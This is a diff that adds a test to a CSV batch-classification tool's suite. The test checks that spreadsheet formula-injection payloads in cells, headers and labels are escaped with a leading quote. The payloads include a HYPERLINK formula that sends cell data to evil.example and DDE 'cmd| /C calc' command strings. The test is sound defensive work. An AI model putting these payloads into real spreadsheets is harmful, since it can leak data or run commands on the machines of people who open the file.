@@ -143,6 +143,40 @@ describe('awkward CSV files', () => {
     expect(result.metrics?.count).toBe(2);
   });
 
+  it('writes no live formula: hostile cells, headers and labels get a leading quote, probabilities stay numbers', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3+cmd|\' /C calc\'!A0',
+      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      '\t=1+1',
+      '\r=1+1',
+      '=1+1',
+    ];
+    const labels = ['=bad', '+label', 'sport'];
+    const rows = Array.from({ length: 56 }, (_, i) => [hostile[i % hostile.length], `${hostile[(i + 3) % hostile.length]} text ${i}`, labels[i % labels.length]]);
+    const input = Papa.unparse([['=id', '@text', '-label'], ...rows]);
+    const result = await runCsvBatch(
+      file(input),
+      { textColumn: '@text', labelColumn: '-label' },
+      { labels, classify: async (texts) => texts.map((_, i) => Float32Array.of(i % 2 ? 0.7 : 0.2, 0.2, i % 2 ? 0.1 : 0.6)) },
+    );
+    const out = parseCsv(await result.csv.text());
+    let cells = 0;
+    for (const row of out) {
+      for (const cell of row) {
+        cells++;
+        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+    expect(cells).toBeGreaterThan(50 * 3);
+    expect(out[0].slice(0, 3)).toEqual(["'=id", "'@text", "'-label"]);
+    expect(out[1][0]).toBe(`'${hostile[0]}`);
+    expect(out.slice(1).map((row) => row[3])).toContain("'=bad");
+    const probabilities = out.slice(1).flatMap((row) => row.slice(4, 7));
+    expect(probabilities.every((p) => /^\d(\.\d+)?$/.test(p))).toBe(true);
+  });
+
   it('handles ragged rows and reports them by spreadsheet row number', async () => {
     const input = 'id,text,label\n1,short row\n2,fine,sport\n3,too,many,cells,here\n';
     const result = await runCsvBatch(file(input), { textColumn: 'text' }, deps());
